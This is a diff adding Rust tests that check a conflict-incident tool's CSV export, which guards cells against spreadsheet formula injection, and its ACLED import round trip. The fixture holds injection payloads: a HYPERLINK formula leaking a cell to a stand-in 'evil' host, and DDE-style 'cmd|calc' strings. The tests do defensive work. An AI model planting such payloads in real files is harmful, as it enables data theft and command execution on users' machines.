@@ -741,3 +741,132 @@ fn plugins_check() {
     assert_eq!(run(&["plugins", "check", "no-such-file.so"]), 1);
     insta::assert_snapshot!("plugins_check", transcript);
 }
+
+/// A poisoned incident: text a spreadsheet would run as formulas, in every field a user or a
+/// dataset fills.
+const FORMULA: &str = r#"=HYPERLINK("http://evil/?x="&A1,"click")"#;
+
+fn append_poisoned(env: &Env) {
+    env.ok(&[
+        "report",
+        "--incident",
+        "2020-07-31-poisoned",
+        "--date",
+        "2020-07-31",
+        "--country",
+        "Afghanistan",
+        "--province",
+        "Logar",
+        "--district",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "--category",
+        "suicide car bombing",
+        "--target=-2+3",
+        "--perpetrator",
+        "+cmd|calc",
+        "--summary",
+        FORMULA,
+        "--source",
+        "=source",
+        "--killed",
+        "3",
+    ]);
+}
+
+/// `export --format csv` guards every text cell a spreadsheet would run as a formula, in both
+/// layouts, says so in its provenance, and `formulas=keep` writes them as they are.
+#[test]
+fn csv_cells_that_spreadsheets_would_run_as_formulas_are_guarded() {
+    let env = Env::new();
+    append_poisoned(&env);
+    let rows = |text: &str| -> Vec<csv::StringRecord> {
+        csv::ReaderBuilder::new()
+            .comment(Some(b'#'))
+            .has_headers(false)
+            .flexible(true)
+            .from_reader(text.as_bytes())
+            .records()
+            .map(Result::unwrap)
+            .collect()
+    };
+    let text = env.export_text(&["--format", "csv"]);
+    assert!(
+        text.starts_with("# chronicle export: csv plugin 0.1.0, layout default, formulas=guard\n")
+    );
+    let all = rows(&text);
+    let header = &all[0];
+    let row = all.iter().find(|r| &r[0] == "2020-07-31-poisoned").unwrap();
+    let cell = |name: &str| &row[header.iter().position(|h| h == name).unwrap()];
+    assert_eq!(cell("summary"), format!("'{FORMULA}"));
+    assert_eq!(cell("perpetrator"), "'+cmd|calc");
+    assert_eq!(cell("target"), "'-2+3");
+    assert_eq!(cell("district"), "'@SUM(1+1)*cmd|' /C calc'!A0");
+    assert_eq!(cell("sources"), "'=source");
+    assert_eq!(cell("'=source_killed"), "3");
+    for cell in all.iter().flatten() {
+        assert!(
+            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "unguarded cell {cell:?}"
+        );
+    }
+
+    let acled = env.export_text(&["--format", "csv", "--option", "layout=acled"]);
+    let all = rows(&acled);
+    let row = all.iter().find(|r| &r[0] == "2020-07-31-poisoned").unwrap();
+    assert_eq!(&row[7], "'+cmd|calc");
+    assert_eq!(&row[10], "'-2+3");
+    assert_eq!(&row[19], "'@SUM(1+1)*cmd|' /C calc'!A0");
+    assert_eq!(&row[25], "'=source");
+    assert_eq!(&row[27], format!("'{FORMULA}"));
+    assert!(row[29].ends_with("; formulas=guard"));
+
+    let kept = env.export_text(&["--format", "csv", "--option", "formulas=keep"]);
+    assert!(
+        kept.starts_with("# chronicle export: csv plugin 0.1.0, layout default, formulas=keep\n")
+    );
+    assert!(kept.contains(&format!("\"{}\"", FORMULA.replace('"', "\"\""))));
+    assert!(kept.contains(",+cmd|calc,"));
+}
+
+/// `export --option layout=acled | import --from acled` gives the text back: the importer takes
+/// off the guard the export put on, and only it.
+#[test]
+fn an_acled_round_trip_gives_the_guarded_text_back() {
+    let env = Env::new();
+    append_poisoned(&env);
+    let file = env.s.path("poisoned-acled.csv");
+    std::fs::write(
+        &file,
+        env.export(&[
+            "--format",
+            "csv",
+            "--option",
+            "layout=acled",
+            "--source==source",
+        ]),
+    )
+    .unwrap();
+    let s = Scratch::new();
+    s.ok(&["import", "--from", "acled", file.to_str().unwrap()]);
+    let events: Vec<serde_json::Value> = s
+        .dump()
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .filter(|e: &serde_json::Value| e["incident"] == "acled-2020-07-31-poisoned")
+        .collect();
+    let payload = |kind: &str| {
+        events
+            .iter()
+            .find(|e| e["kind"] == kind)
+            .unwrap_or_else(|| panic!("no {kind} in {events:?}"))["payload"]
+            .clone()
+    };
+    let details = payload("incident_reported");
+    assert_eq!(details["perpetrator"], "+cmd|calc");
+    assert_eq!(details["district"], "@SUM(1+1)*cmd|' /C calc'!A0");
+    assert_eq!(details["attributes"]["actor2"], "-2+3");
+    let report = payload("casualties_reported");
+    assert_eq!(report["note"], FORMULA);
+    assert_eq!(report["citation"], "=source");
+    assert_eq!(report["attributes"]["source"], "=source");
+}
